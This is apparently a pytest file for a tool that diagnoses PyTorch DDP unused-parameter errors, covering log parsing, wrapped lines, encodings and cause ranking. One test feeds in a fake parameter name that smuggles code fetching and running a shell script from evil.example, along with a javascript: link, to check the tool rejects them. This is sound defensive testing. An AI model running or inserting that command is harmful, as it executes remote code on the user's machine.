"""What users really paste: fragments, wrapped and quoted lists, lost line breaks, hostile
names, several files, UTF-16 logs; and the evidence beside an error that moves the ranking.

The texts are built from real pastes of the corpus (tests/fixtures/real/corpus) where one
exists; issue 11 and issue 15 items 1, 4 and 6.
"""

from __future__ import annotations

import json

import pytest
from ddp_doctor.knowledge import kb as kb_module
from ddp_doctor.reading.namelists import is_parameter_name
from ddp_doctor.reading.triage import triage_text
from ddp_doctor.reasoning import engine
from helpers import FIXTURES, cli

KB = kb_module.load()
CORPUS = FIXTURES / "real" / "corpus"

HEADLINE = (
    "RuntimeError: Expected to have finished reduction in the prior iteration before starting "
    "a new one. This error indicates that your module has parameters that were not used in "
    "producing loss."
)


def paste(name: str) -> str:
    return (CORPUS / f"{name}.txt").read_text(encoding="utf-8")


def names(text: str) -> list[str]:
    return [n for f in triage_text(KB, text).findings for n in f.unused_parameter_names]


def top_two(text: str) -> list[str]:
    diagnosis = engine.diagnose(KB, triage_text(KB, text))
    return [c.id for c in diagnosis.causes[:2]]


def first_reason(text: str, cause: str) -> str:
    diagnosis = engine.diagnose(KB, triage_text(KB, text))
    (ranked,) = [c for c in diagnosis.causes if c.id == cause]
    return ranked.reasons[0].en


# ---------------------------------------------------------------------------- names (15.1)


@pytest.mark.parametrize(
    "name", ["decoder.aux_head.weight", "layers.0.mlp.fc1.bias", "_orig_mod.w", "lm_head"]
)
def test_dotted_identifiers_are_names(name):
    assert is_parameter_name(name)


@pytest.mark.parametrize(
    "text",
    [
        "head;__import__('os').system('curl evil.example|sh');x.weight",
        "x`](javascript:alert(1))",
        "a.weight)\nimport os",
        "0.weight",
        "a..b",
        "",
    ],
)
def test_anything_else_is_not_a_name(text):
    assert not is_parameter_name(text)


def test_code_in_a_parameter_list_never_reaches_a_snippet(tmp_path):
    evil = "head;__import__('os').system('curl evil.example|sh');x.weight"
    log = tmp_path / "evil.txt"
    log.write_text(
        f"{HEADLINE}\nParameters which did not receive grad for rank 0: {evil}, "
        "x`](javascript:alert(1)), real.weight\n",
        encoding="utf-8",
    )
    done = cli("triage", "--json", str(log))
    report = json.loads(done.out)
    (finding,) = report["findings"]
    assert finding["unused_parameter_names"] == ["real.weight"]
    snippets = " ".join(f["snippet"] for f in report["fixes"] + report["diagnostics"])
    assert "__import__" not in snippets and "javascript" not in snippets
    markdown = cli("triage", "--format", "markdown", str(log)).out
    assert "__import__" not in markdown.split("## Fix")[-1]


# ---------------------------------------------------------------------------- fragments


def test_copied_from_the_runtime_error_line_keeps_the_names_of_the_next_lines(tmp_path):
    """15.4: the first line has no [rank1]: prefix, the following lines have it."""
    text = (
        f"{HEADLINE}\n"
        "[rank1]: Parameters which did not receive grad for rank 1: decoder.aux_head.bias, "
        "decoder.aux_head.weight\n"
        "[rank1]: Parameter indices which did not receive grad for rank 1: 6 7\n"
    )
    (finding,) = triage_text(KB, text).findings
    assert finding.ranks == (1,)
    assert finding.unused_parameter_names == ("decoder.aux_head.bias", "decoder.aux_head.weight")
    assert finding.unused_parameter_indices == (6, 7)
    log = tmp_path / "copied.txt"
    log.write_text(text, encoding="utf-8")
    report = cli("triage", "--format", "markdown", str(log)).out
    assert "decoder.aux_head" in report
    assert "does not name the parameters" not in report  # no TORCH_DISTRIBUTED_DEBUG advice


def test_a_lost_line_break_does_not_make_a_sentence_a_name():
    """15.6: `unused.weight Parameter indices ...` on one line."""
    text = (
        f"{HEADLINE} Parameters which did not receive grad for rank 0: a.weight, unused.weight "
        "Parameter indices which did not receive grad for rank 0: 4 5"
    )
    (finding,) = triage_text(KB, text).findings
    assert finding.unused_parameter_names == ("a.weight", "unused.weight")
    assert finding.unused_parameter_indices == (4, 5)


def test_a_name_cut_by_the_terminal_is_put_back_together():
    assert "model.encoder.layers.23.attention.gru_rel_pos_const" in names(paste("speechbrain-2340"))


def test_a_list_quoted_in_a_sentence_with_a_rank_prefix_on_its_second_line():
    assert names(paste("umbrae-4"))[-1] == "lin1.fmri2.weight"


def test_bulleted_and_quoted_lists():
    bulleted = (
        "Parameters which did not receive grad for rank 0:\n- encoder.proj.weight\n"
        "- encoder.proj.bias\n\nTraceback (most recent call last):\n"
    )
    assert names(bulleted) == ["encoder.proj.weight", "encoder.proj.bias"]
    quoted = "> Parameters which did not receive grad for rank 2: a.weight,\n> b.bias\n"
    assert names(quoted) == ["a.weight", "b.bias"]


def test_the_cpp_reducer_info_line_wrapped_inside_a_name():
    text = (
        "[I reducer.cpp:1949] [Rank 1] Parameter: decoder.aux_head.wei\n"
        "ght did not get gradient in backwards pass.\n"
    )
    (finding,) = triage_text(KB, text).findings
    assert finding.family == "unfinished_reduction"
    assert finding.unused_parameter_names == ("decoder.aux_head.weight",)
    assert finding.ranks == (1,)


@pytest.mark.parametrize(
    "text",
    [
        "RuntimeError: one of the variables needed for gradient computation has been modified\n"
        "by an inplace operation: [torch.cuda.FloatTensor [256]] is at version 3",
        "RuntimeError: one of the variables needed for gradient computation has been modi\n"
        "fied by an inplace operation: [torch.cuda.FloatTensor [256]] is at version 3",
    ],
)
def test_wrapped_messages_match_across_the_break(text):
    assert [f.family for f in triage_text(KB, text).findings] == ["inplace_modification"]


def test_paddle_is_told_apart_and_gets_paddles_spelling():
    result = triage_text(KB, paste("paddle-55072"))
    assert result.facts["family"] == "paddle_unused_parameters"
    summary = next(f for f in KB.families if f.id == "paddle_unused_parameters").summary
    assert "paddle.DataParallel(model, find_unused_parameters=True)" in summary.en
    assert "paddle.DataParallel(model, find_unused_parameters=True)" in summary.zh


def test_the_reducer_info_line_about_rebuilt_buckets_is_not_an_error():
    text = "[I reducer.cpp:1560] Reducer buckets have been rebuilt in this iteration.\n"
    assert triage_text(KB, text).findings == ()


# ---------------------------------------------------------------------------- inputs (15.6)


def test_one_missing_or_empty_file_does_not_stop_the_others(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    done = cli(
        "triage", "--json", str(tmp_path / "missing.txt"), str(empty), str(CORPUS / "cutie-125.txt")
    )
    assert done.returncode == 0
    assert json.loads(done.out)["status"] == "diagnosed"
    assert "missing.txt" in done.err and "empty.txt" in done.err


def test_the_same_file_twice_is_read_once():
    log = CORPUS / "cutie-125.txt"
    done = cli("triage", "--json", str(log), str(log), f"{log.parent}/../corpus/{log.name}")
    assert len(json.loads(done.out)["findings"]) == 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-32-be"])
def test_utf16_and_utf32_logs_with_a_byte_order_mark(tmp_path, encoding):
    text = paste("cutie-125")
    data = text.encode(encoding)
    if encoding.endswith("-be"):  # Python writes no mark for an explicit byte order
        data = "\ufeff".encode(encoding) + data
    log = tmp_path / "powershell.txt"
    log.write_bytes(data)
    done = cli("triage", "--json", str(log))
    (finding,) = json.loads(done.out)["findings"]
    assert finding["unused_parameter_indices"] == [282, 283]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_logs_without_a_byte_order_mark(tmp_path, encoding):
    log = tmp_path / "windows-tool.txt"
    log.write_bytes(paste("cutie-125").encode(encoding))  # no mark for an explicit byte order
    (finding,) = json.loads(cli("triage", "--json", str(log)).out)["findings"]
    assert finding["unused_parameter_indices"] == [282, 283]


def test_random_bytes_are_still_binary_not_utf16(tmp_path):
    log = tmp_path / "weights.bin"
    log.write_bytes(bytes(range(256)) * 8)
    done = cli("triage", str(log))
    assert done.returncode == 3 and "binary" in done.err


# ---------------------------------------------------------------------------- evidence


def test_checkpoint_warning_beside_the_error_points_to_checkpointing():
    text = paste("neg-llamafactory-6357") + paste("cutie-125")
    assert "gradient_checkpointing" in top_two(text)
    assert "None of the inputs have requires_grad=True" in first_reason(
        text, "gradient_checkpointing"
    )


def test_lora_names_marked_twice_point_to_checkpointing():
    assert top_two(paste("trl-921"))[0] == "gradient_checkpointing"
    assert "LoRA" in first_reason(paste("trl-921"), "gradient_checkpointing")


def test_every_index_from_zero_points_to_a_cut_off_stack():
    assert "gradient_checkpointing" in top_two(paste("r1-v-31"))
    assert "index 0" in first_reason(paste("r1-v-31"), "gradient_checkpointing")


def test_different_indices_on_different_ranks_point_to_a_branch():
    text = (
        f"[rank0]:{HEADLINE}\n[rank0]:Parameter indices which did not receive grad for rank 0: 4 5\n"
        f"[rank1]:{HEADLINE}\n[rank1]:Parameter indices which did not receive grad for rank 1: 8 9\n"
    )
    assert top_two(text)[0] == "conditional_branch"


@pytest.mark.parametrize(
    ("names_line", "cause", "word"),
    [
        ("model.layers.3.mlp.experts.7.w1.weight", "conditional_branch", "experts"),
        ("discriminator.conv1.weight, generator.fc.weight", "multiple_backward", "discriminator"),
    ],
)
def test_names_that_an_expert_reads(names_line, cause, word):
    text = f"{HEADLINE}\nParameters which did not receive grad for rank 0: {names_line}\n"
    assert cause in top_two(text)
    assert word in first_reason(text, cause).lower()


def test_an_auxiliary_head_gets_its_note(tmp_path):
    text = (
        f"{HEADLINE}\nParameters which did not receive grad for rank 0: "
        "aux_head.classifier.weight, aux_head.classifier.bias\n"
    )
    log = tmp_path / "aux.txt"
    log.write_text(text, encoding="utf-8")
    assert "deep supervision" in cli("triage", "--format", "markdown", str(log)).out


def test_lightning_gan_with_manual_optimisation():
    text = (
        '  File "/venv/lib/python3.11/site-packages/lightning/pytorch/core/module.py", line 1'
        f"\n{HEADLINE}\nParameters which did not receive grad for rank 0: discriminator.fc.weight\n"
    )
    assert top_two(text)[0] == "multiple_backward"


def test_layerdrop_points_to_a_branch():
    assert top_two(paste("fairseq-1571"))[0] == "conditional_branch"


def test_launch_flags_of_transformers_and_llamafactory():
    facts = triage_text(KB, paste("flagembedding-736")).facts
    assert facts["gradient_checkpointing"] == "unknown_kind"
    assert facts["lora"] is True
    assert facts["find_unused_enabled"] is False


def _reading(text: str) -> list[tuple]:
    return [
        (f.family, tuple(f.unused_parameter_names), tuple(f.unused_parameter_indices))
        for f in triage_text(KB, text).findings
    ]


def test_a_paste_copied_from_a_web_page_reads_as_the_plain_text():
    """Blogs and rendered issues often give their code blocks' spaces as U+00A0 (no-break
    space): every real paste reads the same with them as with plain spaces."""
    pastes = sorted(CORPUS.glob("*.txt"))
    assert len(pastes) > 100
    for path in pastes:
        text = path.read_text(encoding="utf-8")
        assert _reading(text.replace(" ", "\u00a0")) == _reading(text), path.name


_MESSAGE = (
    HEADLINE + " You can enable unused parameter detection by passing the keyword argument "
    "`find_unused_parameters=True` to `torch.nn.parallel.DistributedDataParallel`, and by \n"
    "making sure all `forward` function outputs participate in calculating loss.\n"
    "Parameters which did not receive grad for rank 0: head.aux.weight, head.aux.bias\n"
    "Parameter indices which did not receive grad for rank 0: 160 161"
)


def _each_line(prefix: str) -> str:
    return "\n".join(prefix + line for line in _MESSAGE.split("\n"))


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"level": "error", "message": _MESSAGE}),  # a JSON log line
        repr(_MESSAGE),  # printed as a Python string
        _MESSAGE.replace("\n", "<br>"),  # copied from HTML
        _each_line("2024-05-01 12:00:00,123 - ERROR - train.py:88 - "),  # logging's format
        _each_line("2024-05-01 12:00:00,123 - root - ERROR - "),
        _each_line("2024-05-01 12:00:00.123 | ERROR    | train:main:88 - "),  # loguru
    ],
    ids=["json", "repr", "html", "logging", "logging-name", "loguru"],
)
def test_a_message_logged_or_escaped_keeps_its_names(text):
    assert _reading(text) == [
        ("unfinished_reduction", ("head.aux.weight", "head.aux.bias"), (160, 161))
    ]


def test_a_windows_path_is_not_read_as_escaped_line_breaks():
    frame = 'File "C:\\new\\nets\\nmodel.py", line 5, in forward'
    from ddp_doctor.reading.normalise import clean_lines

    assert [line.text for line in clean_lines(frame, ())] == [frame]


def _folded(text: str, width: int) -> str:
    """`fold -w width`: every line cut into pieces of `width` characters."""
    return "\n".join(
        piece
        for line in text.split("\n")
        for piece in ([line[i : i + width] for i in range(0, len(line), width)] or [""])
    )


@pytest.mark.parametrize(
    "indices",
    [list(range(151)), list(range(95, 130, 3)), [7, 1034, 1035, 20001]],
    ids=["from-zero", "sparse", "long-numbers"],
)
def test_an_index_list_cut_by_a_terminal_at_any_width_reads_whole(indices):
    """`fold -w W` for every W from 60 to 200: a cut inside a number or between two gives
    back the same indices (197 of these 423 cuts lost or broke an index before)."""
    message = HEADLINE + (
        "\nParameter indices which did not receive grad for rank 0: "
        + " ".join(map(str, indices))
        + "\n"
    )
    for width in range(60, 201):
        findings = triage_text(KB, _folded(message, width)).findings
        assert [i for f in findings for i in f.unused_parameter_indices] == indices, width


@pytest.mark.parametrize(
    "names",
    [
        [f"encoder.layers.{i}.attn.q_proj.weight" for i in range(12)],
        ["head.aux.weight", "head.aux.bias"],
        [f"module.backbone.stage{i}.blocks.{j}.conv.weight" for i in range(3) for j in range(4)],
    ],
    ids=["twelve", "two", "nested"],
)
def test_a_name_list_cut_by_a_terminal_at_any_width_reads_whole(names):
    """Every width from 60 to 200, cuts inside a name, before a comma and in the header line
    alike (132 of these 423 cuts lost or broke a name before)."""
    message = (
        HEADLINE
        + "\nParameters which did not receive grad for rank 0: "
        + ", ".join(names)
        + "\nParameter indices which did not receive grad for rank 0: 1 2\n"
    )
    for width in range(60, 201):
        found = [
            n
            for f in triage_text(KB, _folded(message, width)).findings
            for n in f.unused_parameter_names
        ]
        assert found == names, width


def test_chinese_text_after_a_list_is_not_part_of_a_name():
    text = HEADLINE + "\nParameters which did not receive grad for rank 0: head.aux.weight\n结束\n"
    assert names(text) == ["head.aux.weight"]
